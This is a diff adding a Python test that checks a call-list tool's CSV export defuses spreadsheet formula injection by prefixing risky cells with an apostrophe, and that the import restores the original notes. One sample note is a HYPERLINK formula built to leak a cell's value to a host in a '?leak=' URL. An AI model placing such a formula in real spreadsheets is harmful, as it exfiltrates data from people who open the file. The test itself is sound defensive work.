@@ -318,3 +318,31 @@ def test_call_out_import_explains_a_number_excel_turned_into_a_power_of_ten(tmp_
     report = calls.import_results("号码,状态\n1.38001E+10,called\n".encode("utf-8-sig"), "results.csv")
     assert report.applied == [] and len(report.errors) == 1
     assert report.errors[0].startswith("results.csv: row 2: number: '1.38001E+10' is not one phone number (Excel showed")
+
+
+def test_call_out_csv_writes_formula_text_as_text_and_reads_it_back(tmp_path):
+    """A note such as `=HYPERLINK(…)` or `@SUM(…)` was written to the call-out CSV as it was, a formula that runs in
+    whoever opens the file in Excel or WPS; it is written after an apostrophe, and the import reads it back as it was
+    (an unchanged export imported back changes no note). Text that is one plain number and real numbers stay as they are."""
+    from pipelines.tables import read_rows, write_csv
+
+    calls = _flyposting_list(tmp_path)
+    notes = {"13800138000": '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"查看")', "13800138001": "@SUM(A1:A9)",
+             "13800138002": "-见备注 see the file"}
+    for number, note in notes.items():
+        calls.set_status(number, Status.CALLED, note=note)
+    path = calls.export(tmp_path / "callout.csv")
+    [header, *rows] = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+    written = {r[header.index("number 号码")].strip('="'): r[header.index("note 备注")] for r in rows}
+    assert written == {number: "'" + note for number, note in notes.items()}
+    report = calls.import_results(path.read_bytes(), "callout.csv")
+    assert report.errors == [] and {n: calls.get(n).note for n in notes} == notes
+
+    cells = ["-5", "+3.5", "\t=1+1", "\r@x", "+86 138", -5, -2.5, "a=b", "'quoted"]
+    path = write_csv(tmp_path / "cells.csv", ["-减分 deduction"], [[c] for c in cells])
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        written = list(csv.reader(fh))
+    assert written == [
+        ["'-减分 deduction"], ["-5"], ["+3.5"], ["'\t=1+1"], ["'\r@x"], ["'+86 138"], ["-5"], ["-2.5"], ["a=b"], ["'quoted"]]
+    read = read_rows(path.read_bytes(), "cells.csv", {"value": ("-减分 deduction",)}, required=("value",))
+    assert [row["value"] for _, row in read] == ["-5", "+3.5", "=1+1", "@x", "+86 138", "-5", "-2.5", "a=b", "'quoted"]
